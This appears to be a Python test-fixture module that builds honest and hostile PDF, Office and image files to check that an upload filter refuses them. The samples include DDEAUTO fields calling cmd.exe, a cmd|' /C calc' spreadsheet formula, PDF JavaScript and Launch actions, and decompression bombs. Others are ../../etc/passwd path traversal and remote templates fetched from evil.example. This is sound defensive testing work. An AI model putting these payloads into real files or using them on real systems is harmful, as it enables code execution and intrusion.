"""Honest files, and hostile ones of every kind that was seen or thought of."""

import io
import struct

import pikepdf

from initiatives.files.refusal import MEGABYTE, MOST_BYTES

from . import documents as make

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'
BOMB = b"\0" * (2 * MEGABYTE)


def bomb():
    """A document of 60 KB that would unpack to 104 MB."""
    return make.office("docx", *[(f"word/media/{n}.bin", BOMB) for n in range(52)])


def lying_bomb():
    """A document whose one large part says that it is small."""
    whole = bytearray(make.office("docx", ("word/media/a.bin", BOMB)))
    true, false = struct.pack("<I", len(BOMB)), struct.pack("<I", 10)
    return bytes(whole.replace(true, false))


def renamed(old, new, content):
    """The same archive with one of its names changed to another of the same length."""
    assert len(old) == len(new) and old in content
    return content.replace(old, new)


def crowd():
    """A document of more parts than are looked at."""
    return make.office("docx", *[(f"word/{n}.xml", "") for n in range(2_001)])


def locked_office():
    """A document whose parts say that they are encrypted."""
    whole = bytearray(make.office("docx"))
    at = whole.find(b"PK\x01\x02")
    while at != -1:
        whole[at + 8] |= 1
        at = whole.find(b"PK\x01\x02", at + 4)
    return bytes(whole)


def inner(ending, *parts):
    return make.office(ending, *parts)


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LONG = b"/Pad (" + b"x" * 5_000 + b") "


def said(*runs, begin="", end=""):
    """A part of a Word document with one field, whose instruction stands in these runs."""
    words = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f"<w:document {W}>{begin or char('begin')}{words}{end or char('end')}</w:document>"


def char(kind):
    return f'<w:fldChar w:fldCharType="{kind}"/>'


def footer(content):
    """A document with this footer."""
    return make.office("docx", ("word/footer1.xml", content))


def types(path, kind="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"):
    return f'<Override PartName="/{path}" ContentType="{kind}"/>'


def real_pdf(change, packed=True):
    """A PDF as a program writes it, with a table of its objects, changed first."""
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    change(document)
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    document.save(out, object_stream_mode=mode)
    return out.getvalue()


def scripted(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")


def nested(word):
    """A field whose first word another field writes."""
    inner = f"{char('begin')}<w:instrText>QUOTE 68 68 69</w:instrText>{char('end')}"
    return f"<w:document {W}>{char('begin')}<w:instrText>{word}</w:instrText>{inner} {char('end')}</w:document>"


HONEST = {
    "report.pdf": make.pdf(),
    "packed.pdf": make.pdf(make.packed(b"<< /Type /Annot >>")),
    "letter.docx": make.office(
        "docx",
        (
            "word/_rels/document.xml.rels",
            f'<Relationships xmlns="{make.RELATIONS}">'
            + make.pointer("hyperlink", "https://example.org/")
            + "</Relationships>",
        ),
    ),
    "fields.docx": make.office(
        "docx",
        ("word/footer1.xml", said("PAGE ") + ""),
        ("word/footer2.xml", said(' IF "a" = "', "b", '" "DDE is a word" ')),
    ),
    "formulas.xlsx": make.office("xlsx", ("xl/worksheets/a.xml", "<s><c><f>IF(A1=\"a|b\",'x|y'!A1,B1)</f></c></s>")),
    "written.pdf": real_pdf(lambda document: document.docinfo.update({"/Title": "/JavaScript explained"})),
    "chart.docx": make.office("docx", ("word/embeddings/Sheet1.xlsx", inner("xlsx"))),
    "figures.xlsx": make.office("xlsx"),
    "plan.png": make.png(),
    "photo.jpg": make.jpeg(),
    "photo.JPEG": make.jpeg(),
    "Grundriß (Entwurf) – 2.pdf": make.pdf(),
}
# What got past a search for letters.
HOSTILE_IN_STRUCTURE = {
    "a script packed behind a long dictionary": (
        "a.pdf",
        make.pdf(make.packed(b"<< /S /JavaScript >>", LONG + b"/Filter /FlateDecode")),
        "script",
    ),
    "a script packed as programs pack": ("a.pdf", real_pdf(scripted), "script"),
    "a script in plain sight": ("a.pdf", real_pdf(scripted, packed=False), "script"),
    "a field in two runs": (
        "a.docx",
        make.office("docx", ("word/footer1.xml", said("DDE", "AUTO c:\\cmd"))),
        "another program",
    ),
    "a field in nine runs": (
        "a.docx",
        make.office("docx", ("word/footer1.xml", said(*"DDEAUTO", " x"))),
        "another program",
    ),
    "a field of numbered letters": (
        "a.docx",
        make.office("docx", ("word/footer1.xml", said("&#68;&#68;&#69; cmd"))),
        "another program",
    ),
    "a field without an end": (
        "a.docx",
        make.office("docx", ("word/footer1.xml", said("DDEAUTO", end=" "))),
        "another program",
    ),
    "a field that another field writes": ("a.docx", make.office("docx", ("word/footer1.xml", nested(""))), "another"),
    "a simple field": (
        "a.docx",
        make.office("docx", ("word/a.xml", f'<w:document {W}><w:fldSimple w:instr=" DDEAUTO c"/></w:document>')),
        "another program",
    ),
    "a body in a part with another ending": (
        "a.docx",
        make.office("docx", ("word/body.dat", said("DDEAUTO cmd")), types=types("word/body.dat")),
        "another program",
    ),
    "a body that no ending and no kind calls XML": (
        "a.docx",
        make.office("docx", ("word/body", said("DDEAUTO cmd"))),
        "another program",
    ),
    "a body in other letters": (
        "a.docx",
        make.office(
            "docx", ("word/body.xml", ('<?xml version="1.0" encoding="UTF-16"?>' + said("DDE x")).encode("utf-16"))
        ),
        "another program",
    ),
    "a link with a prefix": (
        "a.xlsx",
        make.office("xlsx", ("xl/externalLinks/a.xml", '<x:a xmlns:x="urn:a"><x:ddeLink ddeService="cmd"/></x:a>')),
        "another program",
    ),
    "a formula that asks a program": (
        "a.xlsx",
        make.office("xlsx", ("xl/worksheets/a.xml", "<s><c><f>cmd|'/C calc'!A0</f></c></s>")),
        "another program",
    ),
    "pointers under another name": (
        "a.docx",
        make.office(
            "docx",
            (
                "word/pointers.dat",
                f'<Relationships xmlns="{make.RELATIONS}">{make.pointer("attachedTemplate", "https://evil.example/a")}'
                "</Relationships>",
            ),
        ),
        "fetched from elsewhere",
    ),
    "a page taken in whole": (
        "a.docx",
        make.office("docx", relations=make.pointer("aFChunk", "page.html", "Internal")),
        "another kind",
    ),
    "a part that is no XML": ("a.docx", make.office("docx", ("word/a.xml", "<a><b></a>")), "damaged"),
    "a part said to be XML": (
        "a.docx",
        make.office("docx", ("word/a.xml", "words"), types=types("word/a.xml")),
        "damaged",
    ),
}
HOSTILE = {
    **HOSTILE_IN_STRUCTURE,
    "an empty file": ("a.pdf", b"", "empty"),
    "more than 20 MB": ("a.pdf", make.pdf(b"%" * MOST_BYTES), "20 MB"),
    "a program": ("a.exe", b"MZ\x90\0", "not kept here"),
    "a program called PDF": ("a.pdf", b"MZ\x90\0", "content is something else"),
    "a program behind a PDF's name": ("a.pdf.exe", make.pdf(), "not kept here"),
    "no ending": ("report", make.pdf(), "not kept here"),
    "a web page": ("a.html", b"<html><script>alert(1)</script>", "Web pages"),
    "a web page called PNG": ("a.png", b"<html><script>alert(1)</script>", "content is something else"),
    "a web page called PDF": ("a.pdf", b"<html>%PDF-1.7 %%EOF startxref</html>", "content is something else"),
    "a drawing": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
    "a drawing called PNG": ("a.png", b"<svg/>", "content is something else"),
    "XML": ("a.xml", b"<a/>", "not kept here"),
    "a script": ("a.js", b"alert(1)", "not kept here"),
    "a text with formulas": ("a.csv", b"=cmd|' /C calc'!A0", "not kept here"),
    "a bare archive": ("a.zip", make.zipped([("a", "b")]), "not kept here"),
    "an archive called Word": ("a.docx", make.zipped([("a", "b")]), "content is something else"),
    "a workbook called Word": ("a.docx", make.office("xlsx"), "content is something else"),
    "a document called Excel": ("a.xlsx", make.office("docx"), "content is something else"),
    "a picture called PDF": ("a.pdf", make.png(), "content is something else"),
    "a PDF called picture": ("a.png", make.pdf(), "content is something else"),
    "an old Word document": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old Word"),
    "an old or locked one called new": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "locked"),
    "a document for macros": ("a.docm", make.office("docx"), "macros"),
    "macros": ("a.docx", make.office("docx", ("word/vbaProject.bin", "x")), "macros"),
    "macros under another name": (
        "a.docx",
        make.office("docx", types='<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "macros",
    ),
    "a kind with macros": (
        "a.docx",
        make.office("docx", kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "old macro sheets": ("a.xlsx", make.office("xlsx", ("xl/macrosheets/sheet1.xml", "<a/>")), "macros"),
    "controls": ("a.docx", make.office("docx", ("word/activeX/activeX1.xml", "<a/>")), "controls"),
    "an object of another program": ("a.docx", make.office("docx", ("word/embeddings/oleObject1.bin", "x")), "another"),
    "a program in a document": ("a.docx", make.office("docx", ("word/embeddings/a.exe", "x")), "another program"),
    "macros in an inner workbook": (
        "a.docx",
        make.office("docx", ("word/embeddings/a.xlsx", inner("xlsx", ("xl/vbaProject.bin", "x")))),
        "macros",
    ),
    "documents in documents in documents": (
        "a.docx",
        make.office("docx", ("word/embeddings/a.docx", inner("docx", ("word/embeddings/b.xlsx", inner("xlsx"))))),
        "documents inside documents",
    ),
    "a template from elsewhere": (
        "a.docx",
        make.office("docx", relations=make.pointer("attachedTemplate", "https://evil.example/a.dotm")),
        "fetched from elsewhere",
    ),
    "a picture that calls home": (
        "a.docx",
        make.office("docx", relations=make.pointer("image", "https://evil.example/a.png")),
        "fetched from elsewhere",
    ),
    "a command in a workbook": (
        "a.xlsx",
        make.office("xlsx", ("xl/externalLinks/externalLink1.xml", '<a><ddeLink ddeService="cmd"/></a>')),
        "starts another program",
    ),
    "a command in a document": (
        "a.docx",
        make.office("docx", ("word/footer1.xml", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
        "starts another program",
    ),
    "entities": ("a.docx", make.office("docx", ("word/styles.xml", ENTITY)), "damaged"),
    "entities in another alphabet": (
        "a.docx",
        make.office("docx", ("word/styles.xml", ENTITY.encode("utf-16"))),
        "damaged",
    ),
    "a bomb": ("a.docx", bomb(), "100 MB"),
    "a bomb that lies about its size": ("a.docx", lying_bomb(), "damaged"),
    "too many parts": ("a.docx", crowd(), "2,000 parts"),
    "a part that leads out": ("a.docx", make.office("docx", ("../../etc/passwd", "x")), "damaged"),
    "a part from the root": ("a.docx", make.office("docx", ("/etc/passwd", "x")), "damaged"),
    "two parts of one name": (
        "a.docx",
        renamed(b"word/b.xml", b"word/a.xml", make.office("docx", ("word/a.xml", "<a/>"), ("word/b.xml", "<b/>"))),
        "damaged",
    ),
    "a locked document": ("a.docx", locked_office(), "password"),
    "an archive behind a page": ("a.docx", b"<html></html>" + make.office("docx"), "content is something else"),
    "an archive with a tail": ("a.docx", make.office("docx") + b"<script>", "damaged"),
    "half a document": ("a.docx", make.office("docx")[:400], "damaged"),
    "half a PDF": ("a.pdf", make.pdf()[:200], "cut short"),
    "a PDF with a script": ("a.pdf", make.pdf(b"5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n"), "script"),
    "a PDF with a veiled script": ("a.pdf", make.pdf(b"5 0 obj << /S /J#61vaScript >> endobj\n"), "script"),
    "a PDF with a packed script": ("a.pdf", make.pdf(make.packed(b"<< /S /JavaScript >>")), "script"),
    "a PDF that starts a program": ("a.pdf", make.pdf(b"5 0 obj << /S /Launch >> endobj\n"), "starts another program"),
    "a PDF with files inside": ("a.pdf", make.pdf(b"5 0 obj << /Type /EmbeddedFile >> endobj\n"), "other files"),
    "a PDF that is a running form": ("a.pdf", make.pdf(b"5 0 obj << /XFA 6 0 R >> endobj\n"), "form that runs"),
    "a locked PDF": ("a.pdf", make.pdf(trailer=b"/Encrypt 7 0 R "), "locked"),
    "a PDF bomb": (
        "a.pdf",
        make.pdf(b"".join(make.packed(b" " * (30 * MEGABYTE)) for _ in range(4))),
        "100 MB",
    ),
    "a PDF packed twice": (
        "a.pdf",
        make.pdf(make.packed(b"", b"/Filter [/ASCIIHexDecode /FlateDecode]")),
        "nobody can check",
    ),
    "a PDF with a torn pack": ("a.pdf", make.pdf(make.packed(b"x", squeeze=lambda _data: b"torn")), "damaged"),
    "a picture with a page behind it": ("a.png", make.png() + b"<html>", "attached"),
    "half a picture": ("a.png", make.png()[:40], "damaged"),
    "a picture of no size": ("a.png", make.png(width=0), "damaged"),
    "a picture bomb": ("a.png", make.png(width=60_000, height=60_000), "100 million points"),
    "a photo with a page behind it": ("a.jpg", make.jpeg() + b"<html>", "attached"),
    "two photos in one": ("a.jpg", make.jpeg() + make.jpeg(), "attached"),
    "half a photo": ("a.jpg", make.jpeg()[:-2], "damaged"),
    "a photo of no size": ("a.jpg", make.jpeg(width=0), "damaged"),
    "a photo bomb": ("a.jpg", make.jpeg(width=60_000, height=60_000), "100 million points"),
}
